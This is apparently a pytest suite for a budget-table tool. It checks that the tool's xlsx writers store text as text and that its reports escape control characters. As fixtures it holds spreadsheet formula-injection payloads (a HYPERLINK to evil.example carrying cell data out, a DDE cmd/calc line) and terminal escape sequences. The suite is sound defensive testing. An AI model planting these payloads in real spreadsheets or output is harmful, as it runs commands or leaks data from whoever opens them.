"""Output a user can trust: every xlsx writer (render, diff, export) stores text as text, never as a formula;
replaces what a workbook cannot hold (and says so); refuses text longer than a cell keeps instead of cutting it.
Reports meant for a terminal or parsed as XML (text, concise, markdown, junit) and error lines show a control
character as its escape, never pass it on.

The hostile texts are generated here: each formula start (``= + - @``, tab, CR) with payloads a spreadsheet would
run or read as something else (a hyperlink, DDE, an error value), put in every place a writer takes text from
(the title, the year line, grid cells, dataset columns). A workbook is checked by its XML: no ``<f>`` element in
any worksheet, and every text read back as the string that was written.
"""

from __future__ import annotations

import io
import re
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from xml.etree import ElementTree

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from perftable.export.frames import to_xlsx as export_xlsx
from perftable.export.rows import COLUMNS
from perftable.findings import FileReport, Finding, Report
from perftable.grid import column_letters
from perftable.model import Location
from perftable.report import FormatContext, module, visible
from perftable.spans import CellNote, SpanCell
from perftable.spans.cell_text import MAX_CELL_CHARS, CellTextWarning, TextTooLongError, cell_text
from perftable.spans.xlsx import FORMULA_START, Sheet, workbook_bytes

from .conftest import SAMPLES
from .invoke import run_cli

CLEAN_MD = SAMPLES / "formats" / "lianjiang-clean.md"
PAYLOADS = ('HYPERLINK("http://evil.example/?"&A1,"点此")', "cmd|' /C calc'!A0", "1+1", "SUM(A1:A9)")
HOSTILE = sorted(
    {start + payload for start in FORMULA_START for payload in PAYLOADS}
    | {"=1", "#N/A", "#DIV/0!", "#REF!", "=", "@", "-5%"}
)
_FORMULA = re.compile(rb"<(?:\w+:)?f[\s>/]")


def formulas(data: bytes) -> list[str]:
    """The worksheets of a workbook that hold a formula element."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        return [
            name
            for name in book.namelist()
            if name.startswith("xl/worksheets/") and _FORMULA.search(book.read(name))
        ]


def texts(data: bytes) -> list[tuple[str, str]]:
    """Every cell's (type, value) as openpyxl reads the workbook back, sheet by sheet, row by row."""
    book = load_workbook(io.BytesIO(data))
    return [
        (cell.data_type, cell.value)
        for ws in book
        for row in ws.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def test_render_and_diff_writers_store_every_hostile_text_as_text() -> None:
    grid: list[list[SpanCell | None]] = [[SpanCell(text)] for text in HOSTILE]
    data = workbook_bytes([Sheet("表", grid, title=HOSTILE[0], lines=HOSTILE[1:3])], styled=True)
    assert formulas(data) == []
    assert texts(data) == [("s", text) for text in [HOSTILE[0], *HOSTILE[1:3], *HOSTILE]]


def test_quote_prefix_keeps_formula_starts_text_when_edited() -> None:
    grid: list[list[SpanCell | None]] = [[SpanCell("=1+1"), SpanCell("@x"), SpanCell("1+1")]]
    ws = load_workbook(io.BytesIO(workbook_bytes([Sheet("表", grid)], styled=False))).active
    assert ws is not None
    assert [cell.quotePrefix for cell in ws[1]] == [True, True, False]


def test_export_writer_stores_every_hostile_text_as_text() -> None:
    columns = COLUMNS["indicators"]
    rows = [{column: text for column in columns if column not in ("table", "year")} for text in HOSTILE]
    data = export_xlsx(rows, columns)
    assert formulas(data) == []
    values = texts(data)[len(columns) :]  # after the header row
    assert values == [
        ("s", text) for text in HOSTILE for column in columns if column not in ("table", "year")
    ]


def hostile_table(tmp_path: Path, texts_by_place: dict[str, str]) -> Path:
    """The clean sample with texts replaced (title, goal, task, indicator name): written by the test."""
    text = CLEAN_MD.read_text(encoding="utf-8")
    for old, new in texts_by_place.items():
        assert old in text
        text = text.replace(old, new, 1)
    path = tmp_path / "hostile.md"
    path.write_text(text, encoding="utf-8")
    return path


FORMULA_PLACES = {
    "2024年市级部门整体预算绩效目标表": '=HYPERLINK("http://evil.example","2024年市级部门整体预算绩效目标表")',
    "加快康园心的运营使用": "=1+1",
    "贫困残疾人家庭无障碍改造工作户数": "@SUM(A1)",
    "全部完成支出": "+cmd|' /C calc'!A0",
}


@pytest.mark.parametrize(
    "command",
    [
        ["render", "{table}", "-o", "{out}"],
        ["diff", str(CLEAN_MD), "{table}", "-o", "{out}"],
        ["export", "{table}", "-o", "{out}"],
    ],
    ids=["render", "diff", "export"],
)
def test_no_command_writes_a_live_formula(tmp_path: Path, command: list[str]) -> None:
    table, out = hostile_table(tmp_path, FORMULA_PLACES), tmp_path / "out.xlsx"
    result = run_cli(*(part.format(table=table, out=out) for part in command))
    assert result.returncode in (0, 1), result.stderr
    data = out.read_bytes()
    assert formulas(data) == []
    written = {value for _, value in texts(data)}
    assert {FORMULA_PLACES["2024年市级部门整体预算绩效目标表"], "@SUM(A1)"} <= written


# Every character XML 1.0 cannot hold: C0 controls but tab/LF/CR (ESC and BEL among them), U+FFFE, U+FFFF and a
# lone surrogate, each put between two characters a cell holds.
ILLEGAL = [chr(code) for code in range(0x20) if chr(code) not in "\t\n\r"] + [
    "\ufffe",
    "\uffff",
    "\ud800",
    "\udfff",
]


def recorded(action: Callable[[], bytes]) -> tuple[bytes, list[CellTextWarning]]:
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        data = action()
    return data, [w.message for w in caught if isinstance(w.message, CellTextWarning)]


def test_every_character_a_workbook_cannot_hold_becomes_u_fffd_and_is_said() -> None:
    note = CellNote("warning", "注\x1b[2J释")
    grid: list[list[SpanCell | None]] = [[SpanCell(f"a{ch}b")] for ch in ILLEGAL]
    grid.append([SpanCell("有注\x07", notes=[note])])
    sheet = Sheet("表\x01名", grid, title="标\x1b]0;题\x07", lines=["2024\uffff年"])
    data, said = recorded(lambda: workbook_bytes([sheet], styled=True))
    book = load_workbook(io.BytesIO(data))
    ws = book.active
    assert ws is not None and ws.title == "表\ufffd名"
    values = [value for _, value in texts(data)]
    assert values == ["标\ufffd]0;题\ufffd", "2024\ufffd年", *(["a\ufffdb"] * len(ILLEGAL)), "有注\ufffd"]
    comment = ws.cell(row=3 + len(ILLEGAL), column=1).comment
    assert comment is not None and "注\ufffd[2J释" in comment.text
    assert sum(w.count for w in said) == len(ILLEGAL) + 6
    assert "cell '表\ufffd名'!A3" in [w.where for w in said]


def test_export_writer_replaces_what_a_workbook_cannot_hold() -> None:
    columns = COLUMNS["indicators"]
    rows = [{"name": f"指标{ch}", "value": "1\x1b[31m"} for ch in ILLEGAL]
    data, said = recorded(lambda: export_xlsx(rows, columns))
    names = [
        row[columns.index("name")].value
        for row in load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2)
    ]  # type: ignore[union-attr]
    assert names == ["指标\ufffd"] * len(ILLEGAL)
    assert len(said) == 2 * len(ILLEGAL)
    assert said[0].where == f"cell 'indicators'!{column_letters(columns.index('name'))}2"


@settings(suppress_health_check=[HealthCheck.too_slow])
@given(st.text(alphabet=st.characters(blacklist_categories=()), max_size=40))
def test_any_text_is_written_and_read_back_as_cleaned(text: str) -> None:
    data, _ = recorded(lambda: workbook_bytes([Sheet("表", [[SpanCell("x" + text)]])], styled=False))
    assert formulas(data) == []
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", CellTextWarning)
        expected = cell_text("x" + text, lambda: "A1")
    assert texts(data) == [("s", expected)]


@pytest.mark.parametrize(
    ("command", "count"),
    [
        (["render", "{table}", "-o", "{out}"], 4),
        # the diff shows the renamed indicator in the form and in the change list (its key, new name and detail)
        (["diff", str(CLEAN_MD), "{table}", "-o", "{out}"], 16),
        (["export", "{table}", "-o", "{out}"], 4),
    ],
    ids=["render", "diff", "export"],
)
def test_control_characters_end_no_command_and_are_noted(
    tmp_path: Path, command: list[str], count: int
) -> None:
    places = {"贫困残疾人家庭无障碍改造工作户数": "贫困\x01残疾人\uffff家庭\x1b]0;x\x07无障碍改造工作户数"}
    table, out = hostile_table(tmp_path, places), tmp_path / "out.xlsx"
    result = run_cli(*(part.format(table=table, out=out) for part in command), errors="replace")
    assert result.returncode in (0, 1), result.stderr
    assert f"perftable: note: {out}: {count} characters a workbook cannot hold" in result.stderr
    assert "贫困\ufffd残疾人\ufffd家庭\ufffd]0;x\ufffd无障碍改造工作户数" in {
        value for _, value in texts(out.read_bytes())
    }


def test_text_longer_than_a_cell_keeps_is_refused_never_cut() -> None:
    assert cell_text("长" * MAX_CELL_CHARS, lambda: "A1") == "长" * MAX_CELL_CHARS
    for text in (
        "长" * (MAX_CELL_CHARS + 1),
        "\U00020000" * (MAX_CELL_CHARS // 2 + 1),
    ):  # beyond the BMP: two
        with pytest.raises(TextTooLongError, match=r"A1 would hold 32,76[89] characters"):
            cell_text(text, lambda: "A1")
    grid: list[list[SpanCell | None]] = [[SpanCell("短"), SpanCell("长" * 40_000)]]
    with pytest.raises(TextTooLongError, match=r"cell '表'!B1 would hold 40,000 characters"):
        workbook_bytes([Sheet("表", grid)])


def test_render_refuses_a_goal_longer_than_a_cell_and_writes_nothing(tmp_path: Path) -> None:
    table = hostile_table(tmp_path, {"10. 做好残工委": "10. " + "长" * 40_000 + "做好残工委"})
    out = tmp_path / "out.xlsx"
    result = run_cli("render", str(table), "-o", str(out))
    assert result.returncode == 2
    assert (
        "characters, more than the 32,767 an Excel cell keeps (it would be cut): not written" in result.stderr
    )
    assert not out.exists()
    assert run_cli("render", str(table), "-o", str(tmp_path / "out.md")).returncode == 0  # markdown keeps it


# What a terminal acts on: a title change (OSC … BEL), a screen clear (CSI 2J), a CR that overwrites the line, an
# LF that forges a finding of its own, a C1 CSI, and what XML cannot hold.
TERMINAL = [
    "\x1b]0;pwned\x07",
    "\x1b[2J",
    "ok\rforged",
    "\nfake.md:1:1: B001 forged",
    "\x9b31m",
    "\x00",
    "\ufffe",
    "\ud800",
]
_RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff]")


def hostile_report() -> Report:
    findings = [
        Finding(
            file=f"dir/表{text}.md",
            code="B001",
            name="expenditure-sum",
            severity="error",
            message=f"合计{text}不符",
            hint=f"提示{text}",
            location=Location(file=f"dir/表{text}.md", sheet=f"表{text}", cell="C5"),
        )
        for text in TERMINAL
    ]
    report = Report()
    for finding in findings:
        report.add(FileReport(file=finding.file, tables=1, findings=[finding]))
    report.add(FileReport(file="bad\x1b[2J.md", error="cannot read\x07 it"))
    return report


@pytest.mark.parametrize("name", ["text", "concise", "markdown", "junit"])
def test_no_report_format_passes_a_control_character_on(name: str) -> None:
    report, ctx = hostile_report(), FormatContext(format=name, lang="en")
    fmt = module(name)
    output = "".join(fmt.stream(file, ctx) for file in report.files) + fmt.finish(report, ctx)
    assert _RAW_CONTROL.findall(output) == []
    assert "\\x1b]0;pwned\\x07" in output and "\\x1b[2J" in output
    if name == "concise":  # one line a finding: no forged line
        assert len(output.splitlines()) == len(TERMINAL)
    if name == "junit":
        root = ElementTree.fromstring(
            output.encode("utf-8")
        )  # well-formed: expat refuses what XML cannot hold
        assert root.get("failures") == str(len(TERMINAL)) and root.get("errors") == "1"


def test_visible_escapes_controls_and_keeps_everything_else() -> None:
    assert visible("合计\t不符 ✓") == "合计\t不符 ✓"
    assert visible("a\x1b[2Jb\x07\n\r\x9b\ud800\uffff") == "a\\x1b[2Jb\\x07\\x0a\\x0d\\x9b\\ud800\\uffff"


def test_an_error_line_shows_escapes_not_escape_sequences(tmp_path: Path) -> None:
    for command in ("validate", "render"):  # a finding P001 on stdout; an error line on stderr
        result = run_cli(command, str(tmp_path / "missing\x1b]0;pwned\x07.md"))
        assert result.returncode == 2
        shown = result.stdout + result.stderr
        assert "\x1b" not in shown and "missing\\x1b]0;pwned\\x07.md" in shown
